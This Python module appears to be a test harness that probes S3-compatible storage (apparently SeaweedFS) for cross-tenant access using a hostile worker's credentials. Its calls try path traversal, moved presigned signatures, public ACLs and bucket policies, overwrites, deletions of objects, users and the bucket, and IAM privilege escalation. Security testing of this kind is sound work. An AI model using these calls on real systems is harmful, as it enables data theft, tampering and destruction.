"""Every route through S3 to somebody else's payload, with boto3, raw requests, and a hostile worker's keys."""

from __future__ import annotations

import base64
import http.client
import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any
from urllib.parse import quote

import boto3
import requests
from botocore import UNSIGNED
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError

_EVERYTHING = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:*"}]}


def rows(connection: dict[str, Any], job: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Try them all."""
    yield from _Client(connection, job).rows()


class _Client:
    def __init__(self, connection: dict[str, Any], job: dict[str, Any]) -> None:
        self.job, self.bucket = job, job["bucket"]
        self.endpoint = connection["extra"]["endpoint_url"]
        self._session = boto3.session.Session(
            aws_access_key_id=connection["login"], aws_secret_access_key=connection["password"]
        )
        self.s3, self.iam, self.sts = (self._client(name) for name in ("s3", "iam", "sts"))

    def _client(self, service: str, **config: Any) -> Any:
        return self._session.client(
            service,
            endpoint_url=self.endpoint,
            region_name="us-east-1",
            config=Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"}, **config),
        )

    def rows(self) -> Iterator[dict[str, Any]]:
        for number, one in enumerate(self.job["objects"]):
            for route, call in self._of_an_object(one["key"], one["version"]).items():
                yield self._tried(f"{route}, object {number}", call)
            yield from self._without_boto(number, one["key"])
        for route, call in self._of_the_bucket().items():
            yield self._tried(route, call)

    def _of_an_object(self, key: str, version: str | None) -> dict[str, Callable[[], Any]]:
        s3, at = self.s3, {"Bucket": self.bucket, "Key": key}
        source = {"Bucket": self.bucket, "Key": key}
        mine = {"Bucket": self.bucket, "Key": self.job["own_prefix"] + "stolen"}
        public = json.loads(json.dumps(_EVERYTHING))
        public["Statement"][0]["Resource"] = f"arn:aws:s3:::{self.bucket}/*"
        # One piece of a large object may be a copy of another object.
        upload = s3.create_multipart_upload(**mine)["UploadId"]
        part = {**mine, "PartNumber": 1, "UploadId": upload, "CopySource": source}
        return {
            "get": partial(self._get, **at),
            "get a range": partial(self._get, **at, Range="bytes=0-31"),
            "get if none match": partial(self._get, **at, IfNoneMatch="x"),
            "get part": partial(self._get, **at, PartNumber=1),
            "get a version": partial(self._get, **at, VersionId=version or "null"),
            "get version null": partial(self._get, **at, VersionId="null"),
            "head": lambda: s3.head_object(**at),
            "head a version": lambda: s3.head_object(**at, VersionId=version or "null"),
            "attributes": lambda: s3.get_object_attributes(**at, ObjectAttributes=["ObjectSize", "ETag"]),
            "read acl": lambda: s3.get_object_acl(**at),
            "read tags": lambda: s3.get_object_tagging(**at),
            "select": lambda: s3.select_object_content(
                **at,
                Expression="select * from s3object",
                ExpressionType="SQL",
                InputSerialization={"CSV": {}},
                OutputSerialization={"CSV": {}},
            ),
            "copy": lambda: s3.copy_object(**mine, CopySource=source),
            "copy a version": lambda: s3.copy_object(
                **mine, CopySource={**source, "VersionId": version or "null"}
            ),
            "copy onto itself": lambda: s3.copy_object(**at, CopySource=source, MetadataDirective="REPLACE"),
            "copy a part": lambda: s3.upload_part_copy(**part),
            "copy a range of a part": lambda: s3.upload_part_copy(**part, CopySourceRange="bytes=0-31"),
            "make public": lambda: s3.put_object_acl(**at, ACL="public-read"),
            "tag": lambda: s3.put_object_tagging(**at, Tagging={"TagSet": [{"Key": "a", "Value": "b"}]}),
            "overwrite": lambda: s3.put_object(**at, Body=b"forged"),
            "create beside": lambda: s3.put_object(Bucket=self.bucket, Key=f"{key}-forged", Body=b"forged"),
            "begin a large one there": lambda: s3.create_multipart_upload(**at),
            "delete": lambda: s3.delete_object(**at),
            "delete a version": lambda: s3.delete_object(**at, VersionId=version or "null"),
            "delete many": lambda: s3.delete_objects(Bucket=self.bucket, Delete={"Objects": [{"Key": key}]}),
            "restore": lambda: s3.restore_object(**at, RestoreRequest={"Days": 1}),
            "give the bucket away": lambda: s3.put_bucket_policy(Bucket=self.bucket, Policy=json.dumps(public)),
        }

    def _without_boto(self, number: int, key: str) -> Iterator[dict[str, Any]]:
        at = {"Bucket": self.bucket, "Key": key}
        for method, more in (
            ("get_object", {}),
            ("get_object", {"ResponseContentType": "text/html"}),
            ("head_object", {}),
            ("put_object", {}),
            ("delete_object", {}),
        ):
            url = self.s3.generate_presigned_url(method, {**at, **more}, ExpiresIn=60)
            verb = method.split("_")[0].upper()
            answer = requests.request(verb, url, data=b"forged" if verb == "PUT" else None, timeout=10)
            yield self._answered(
                f"presigned {method} {len(more)}, object {number}", answer.status_code, answer.content
            )
        plain = self._client("s3", signature_version=UNSIGNED)
        yield self._tried(f"without keys, object {number}", lambda: plain.get_object(**at))
        # A signature of its own object for the path of another.
        own = self.job["own_prefix"] + "there"
        url = self.s3.generate_presigned_url("get_object", {"Bucket": self.bucket, "Key": own}, ExpiresIn=60)
        for route, path in (
            ("a signature moved", f"/{self.bucket}/{key}"),
            ("up and down", f"/{self.bucket}/{self.job['own_prefix']}../../../../../../{key.split('/', 1)[1]}"),
            (
                "encoded up and down",
                f"/{self.bucket}/{quote(self.job['own_prefix'] + '../../finance/', safe='')}{key}",
            ),
        ):
            yield self._raw(f"{route}, object {number}", path, url.partition("?")[2])
        for route, name in (
            ("two slashes", key.replace("/", "//", 1)),
            ("a dot", key.replace("/", "/./", 1)),
            ("beside its own", f"xcom/sales/../{key.split('/', 1)[1]}"),
            ("encoded", quote(f"xcom/sales/../{key.split('/', 1)[1]}", safe="")),
            ("a slash before", f"/{key}"),
        ):
            ask = partial(self._get, Bucket=self.bucket, Key=name)
            yield self._tried(f"get by {route}, object {number}", ask)

    def _of_the_bucket(self) -> dict[str, Callable[[], Any]]:
        s3, iam, at = self.s3, self.iam, {"Bucket": self.bucket}
        theirs, mine = self.job["users"]["theirs"], self.job["users"]["mine"]
        everything = json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
        )
        rules = {"Rules": [{"ID": "x", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}]}
        role = "arn:aws:iam::000000000000:role/Tester"
        cors = {"CORSRules": [{"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}]}
        return {
            **{
                f"list {prefix or 'all'}": partial(s3.list_objects_v2, **at, Prefix=prefix)
                for prefix in ("", "xcom/", "xcom/finance/", "xcom/finance/fin_daily/")
            },
            "list with a delimiter": lambda: s3.list_objects_v2(**at, Prefix="xcom/", Delimiter="/"),
            "list the old way": lambda: s3.list_objects(**at),
            "list versions": lambda: s3.list_object_versions(**at),
            "list uploads": lambda: s3.list_multipart_uploads(**at),
            "read the policy": lambda: s3.get_bucket_policy(**at),
            "delete the policy": lambda: s3.delete_bucket_policy(**at),
            "acl of the bucket": lambda: s3.put_bucket_acl(**at, ACL="public-read"),
            "read the bucket's acl": lambda: s3.get_bucket_acl(**at),
            "lifecycle": lambda: s3.put_bucket_lifecycle_configuration(**at, LifecycleConfiguration=rules),
            "versioning": lambda: s3.put_bucket_versioning(**at, VersioningConfiguration={"Status": "Suspended"}),
            "cors": lambda: s3.put_bucket_cors(**at, CORSConfiguration=cors),
            "delete the bucket": lambda: s3.delete_bucket(**at),
            "make keys for them": lambda: iam.create_access_key(UserName=theirs),
            "get with a new key of its own": lambda: self._as_itself_anew(mine),
            "widen its policy": lambda: iam.put_user_policy(
                UserName=mine, PolicyName="x", PolicyDocument=everything
            ),
            "read their policy": lambda: iam.get_user_policy(
                UserName=theirs, PolicyName="secure-xcom-finance-worker"
            ),
            "list users": iam.list_users,
            "make a user": lambda: iam.create_user(UserName="stolen"),
            "make a policy": lambda: iam.create_policy(PolicyName="stolen", PolicyDocument=everything),
            "delete them": lambda: iam.delete_user(UserName=theirs),
            "take a role": lambda: self._in_the_role(role),
        }

    def _get(self, **query: Any) -> bytes:
        body: bytes = self.s3.get_object(**query)["Body"].read()
        return body

    def _as_itself_anew(self, user: str) -> bytes:
        # SeaweedFS lets users make keys of their own: they are the same user's.
        key = self.iam.create_access_key(UserName=user)["AccessKey"]
        session = boto3.session.Session(key["AccessKeyId"], key["SecretAccessKey"], region_name="us-east-1")
        client = session.client("s3", endpoint_url=self.endpoint, config=Config(s3={"addressing_style": "path"}))
        body: bytes = client.get_object(Bucket=self.bucket, Key=self.job["objects"][0]["key"])["Body"].read()
        return body

    def _in_the_role(self, role: str) -> Any:
        given = self.sts.assume_role(RoleArn=role, RoleSessionName="stolen")["Credentials"]
        session = boto3.session.Session(
            given["AccessKeyId"], given["SecretAccessKey"], given["SessionToken"], region_name="us-east-1"
        )
        client = session.client("s3", endpoint_url=self.endpoint, config=Config(s3={"addressing_style": "path"}))
        return client.get_object(Bucket=self.bucket, Key=self.job["objects"][0]["key"])["Body"].read()

    def _raw(self, route: str, path: str, query: str) -> dict[str, Any]:
        wire = http.client.HTTPConnection(self.endpoint.removeprefix("http://"), timeout=20)
        try:
            wire.request("GET", f"{path}?{query}")
            answer = wire.getresponse()
            return self._answered(route, answer.status, answer.read())
        finally:
            wire.close()

    def _answered(self, route: str, status: int, body: bytes) -> dict[str, Any]:
        return {"wall": "bucket", "route": route, "status": status, "body": base64.b64encode(body).decode()}

    def _tried(self, route: str, call: Callable[[], Any]) -> dict[str, Any]:
        try:
            found = call()
        except ClientError as error:
            return self._answered(route, error.response["ResponseMetadata"]["HTTPStatusCode"], str(error).encode())
        except BotoCoreError as error:
            return self._answered(route, 0, type(error).__name__.encode())
        if isinstance(found, bytes):
            return self._answered(route, 200, found)
        errors = found.get("Errors") if isinstance(found, dict) else None
        if errors:
            # Many at once are answered one by one, below a 200.
            return self._answered(
                route, 403 if errors[0]["Code"] == "AccessDenied" else 200, repr(errors).encode()
            )
        return self._answered(route, 200, repr(found).encode())
